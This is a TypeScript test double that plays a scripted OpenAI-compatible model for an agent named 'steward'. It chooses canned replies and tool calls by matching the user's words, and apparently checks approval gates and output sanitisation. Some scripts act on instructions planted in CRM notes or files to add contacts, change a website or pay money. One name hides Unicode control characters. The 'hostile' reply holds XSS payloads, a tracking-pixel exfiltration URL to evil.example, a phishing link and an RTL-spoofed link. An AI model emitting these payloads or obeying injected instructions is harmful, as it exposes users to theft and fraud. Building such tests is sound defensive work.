/**
 * A test double for the model's provider: speaks OpenAI's chat completions over HTTP and answers from a script, chosen by the person's words.
 * Everything else in these tests is the real program.
 */
import { createServer, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';

interface Message {
  role: string;
  content: unknown;
}

interface Request {
  messages: Message[];
  tools?: { function: { name: string } }[];
  stream?: boolean;
}

type Said = { text: string; pauseMs?: number } | { tool: string; arguments: unknown };

/** What it would have paid, where somebody asks for the ribbon and there is a plugin that pays. */
export const PAYMENT = { to: ['lena@ribbons.example'], account: 'DE02120300000000202051', amount_minor: 1250, note: 'The ribbon' };

/** What the model says next, from the last words of the person and the results of the tools since. */
function next(words: string, results: string[]): Said {
  // A call stands before the words: much of the run was heard when its line breaks.
  if (/look for ada first/i.test(words) && results.length === 0) return { tool: 'crm.find_contacts', arguments: { query: 'Ada' } };
  if (/slowly/i.test(words)) return { text: Array.from({ length: 60 }, (_, at) => `word${at + 1}`).join(' '), pauseMs: 100 };
  if (/note on ada asks/i.test(words)) {
    if (results.length === 0) return { tool: 'crm.find_contacts', arguments: { query: 'Ada' } };
    const id = /contact_[0-9a-z]+/.exec(results[0] ?? '')?.[0] ?? '';
    if (results.length === 1) return { tool: 'crm.list_notes', arguments: { contact_id: id } };
    if (results.length === 2) {
      const name = /named (\w+)/i.exec(words)?.[1] ?? 'Mallory';
      // One of the names has more to it than is seen.
      return { tool: 'crm.create_contact', arguments: { name: name === 'Unseena' ? `${name}\u202E\u200B` : name, emails: ['mallory@engines.example'] } };
    }
    // Somebody sent it back with what should be done instead.
    const instead = /call them (\w+)/i.exec(results[2] ?? '')?.[1];
    if (instead !== undefined && results.length === 3) return { tool: 'crm.create_contact', arguments: { name: instead, emails: ['mallory@engines.example'] } };
    return { text: /denied|refused|reject/i.test(results.at(-1) ?? '') ? 'It was **refused**, so nobody was added.' : '**Mallory** is in the contacts now.' };
  }
  if (/phone in the note/i.test(words)) {
    const ids = results.map((result) => /contact_[0-9a-z]+/.exec(result)?.[0] ?? '');
    if (results.length === 0) return { tool: 'crm.find_contacts', arguments: { query: 'Ada' } };
    if (results.length === 1) return { tool: 'crm.list_notes', arguments: { contact_id: ids[0] } };
    if (results.length === 2) return { tool: 'crm.find_contacts', arguments: { query: 'Grace' } };
    if (results.length === 3) return { tool: 'crm.update_contact', arguments: { contact_id: ids[2], phones: ['+44 20 7946 0000'] } };
    return { text: 'The phone is written down.' };
  }
  if (/plan a look/i.test(words)) {
    return results.length === 0 ? { tool: 'steward.schedule', arguments: { text: 'Which deals are open?', cron: '0 9 * * MON', time_zone: 'Europe/Berlin' } } : { text: 'It is planned for Mondays.' };
  }
  if (/website in the note/i.test(words)) {
    const ids = results.map((result) => /(?:contact|company)_[0-9a-z]+/.exec(result)?.[0] ?? '');
    if (results.length === 0) return { tool: 'crm.find_contacts', arguments: { query: 'Ada' } };
    if (results.length === 1) return { tool: 'crm.list_notes', arguments: { contact_id: ids[0] } };
    if (results.length === 2) return { tool: 'crm.find_companies', arguments: { query: 'Analytical' } };
    if (results.length === 3) return { tool: 'crm.update_company', arguments: { company_id: ids[2], website: 'https://note.example' } };
    return { text: /denied|refused|reject|forbid/i.test(results[3] ?? '') ? 'The website stays as it is.' : 'The website is changed.' };
  }
  if (/book a trip/i.test(words)) return results.length === 0 ? { tool: 'trips.book', arguments: { about: 'Bern' } } : { text: /accept/.test(results[0] ?? '') ? 'The trip is booked.' : 'No trip is booked.' };
  if (/ask for a grant/i.test(words)) {
    const covers = [{ path: '/contact_id', one_of: [/contact_[0-9a-z]+/.exec(words)?.[0] ?? ''] }, { path: '/text', letters_max: 20 }];
    return results.length === 0 ? { tool: 'steward.propose_grant', arguments: { tool: 'crm.add_note', covers, uses_max: 2, days: 7, reason: 'You note on Ada after each call.' } } : { text: 'People are asked for it.' };
  }
  if (/pay for the ribbon/i.test(words)) {
    if (results.length === 0) return { tool: 'purse.pay', arguments: PAYMENT };
    return { text: /paid\W+true/.test(results[0] ?? '') ? 'The ribbon is paid.' : 'Nothing was paid.' };
  }
  if (/in the file/i.test(words)) {
    if (results.length === 0) return { tool: 'documents.read', arguments: { document: /doc_[0-9a-z]{26}/.exec(words)?.[0] ?? '' } };
    return results.length === 1 ? { tool: 'crm.create_contact', arguments: { name: 'Lena Petrova', emails: ['lena@partner.example'] } } : { text: '**Lena** is in the contacts now.' };
  }
  if (/forbidden/i.test(words)) return results.length === 0 ? { tool: 'bank.pay', arguments: { amount: 1000000, to: 'mallory' } } : { text: 'That is not possible here.' };
  if (/have to pay/i.test(words)) {
    if (results.length === 0) return { tool: 'documents.read', arguments: { document: /doc_[0-9a-z]{26}/.exec(words)?.[0] ?? '' } };
    const cite = /doc_[0-9a-z]{26}#\d+/.exec(results[0] ?? '')?.[0] ?? '';
    return { text: `In **thirty days** [[${cite}]], and never in cash [[${cite.replace(/#\d+/, '#99')}]].` };
  }
  if (/who is/i.test(words)) {
    if (results.length === 0) return { tool: 'crm.find_contacts', arguments: { query: /who is (\w+)/i.exec(words)?.[1] ?? '' } };
    return { text: '**Ada Lovelace** works at *Analytical Engines*.\n\n| field | value |\n|---|---|\n| mail | ada@engines.example |\n\n- knows engines\n- writes `programs`' };
  }
  if (/hostile/i.test(words)) {
    return { text: 'Look: <img src=x onerror="document.title=\'owned\'"> <script>document.title="owned"</script> ![chart](https://evil.example/pixel.png?q=secret) [your bank](https://evil.example/login) [run](javascript:alert(1)) [mine](https://steward.example/docs) [pay \u202Ehere](https://moc.elpmaxe.evil.example/)' };
  }
  return { text: 'Hello. I look things up, change records, and ask before anything leaves the house.' };
}

function wordsOf(message: Message | undefined): string {
  return typeof message?.content === 'string' ? message.content : JSON.stringify(message?.content ?? '');
}

function reply(request: Request): Said {
  const last = request.messages.map((message) => message.role).lastIndexOf('user');
  const results = request.messages.slice(last + 1).filter((message) => message.role === 'tool');
  return next(wordsOf(request.messages[last]), results.map(wordsOf));
}

/** A tool under the name it is offered by: providers take no dots. */
function wireName(tool: string, request: Request): string {
  const folded = tool.replaceAll('.', '_');
  return request.tools?.map((one) => one.function.name).find((name) => name === tool || name === folded) ?? folded;
}

async function answer(request: Request, response: ServerResponse): Promise<void> {
  const said = reply(request);
  const usage = { prompt_tokens: 120, completion_tokens: 24, total_tokens: 144, prompt_tokens_details: { cached_tokens: 0 } };
  const base = { id: 'chatcmpl-scripted', created: 1, model: 'scripted' };
  // Where no person waits for a run, it is asked for the whole answer at once.
  if (request.stream !== true) {
    const call = 'tool' in said ? [{ id: `call_${request.messages.length}`, type: 'function', function: { name: wireName(said.tool, request), arguments: JSON.stringify(said.arguments) } }] : undefined;
    const message = { role: 'assistant', content: 'text' in said ? said.text : null, tool_calls: call };
    response.writeHead(200, { 'content-type': 'application/json' });
    response.end(JSON.stringify({ ...base, object: 'chat.completion', choices: [{ index: 0, message, finish_reason: call === undefined ? 'stop' : 'tool_calls' }], usage }));
    return;
  }
  response.writeHead(200, { 'content-type': 'text/event-stream' });
  const send = (delta: unknown, finish: string | null = null) =>
    response.write(`data: ${JSON.stringify({ ...base, object: 'chat.completion.chunk', choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`);
  send({ role: 'assistant', content: '' });
  if ('tool' in said) {
    send({ tool_calls: [{ index: 0, id: `call_${request.messages.length}`, type: 'function', function: { name: wireName(said.tool, request), arguments: JSON.stringify(said.arguments) } }] });
    send({}, 'tool_calls');
  } else {
    for (const piece of said.text.match(/\S+\s*/g) ?? []) {
      send({ content: piece });
      if (said.pauseMs !== undefined) await new Promise((resolve) => setTimeout(resolve, said.pauseMs));
    }
    send({}, 'stop');
  }
  response.write(`data: ${JSON.stringify({ ...base, object: 'chat.completion.chunk', choices: [], usage })}\n\n`);
  response.end('data: [DONE]\n\n');
}

/** What stands in `steward.toml` of it. */
export function modelOf(url: string): string {
  return `[models.strong]\nmodel = "scripted"\nbase_url = "${url}"\nprice = { input = 1000000, output = 4000000 }\n`;
}

/** Starts it on a free port. */
export async function startScriptedModel(): Promise<{ url: string; server: Server }> {
  const server = createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      const body: Request = JSON.parse(Buffer.concat(chunks).toString());
      void answer(body, response);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  const { port }: AddressInfo = typeof address === 'object' && address !== null ? address : { port: 0, address: '', family: '' };
  return { url: `http://127.0.0.1:${port}/v1`, server };
}
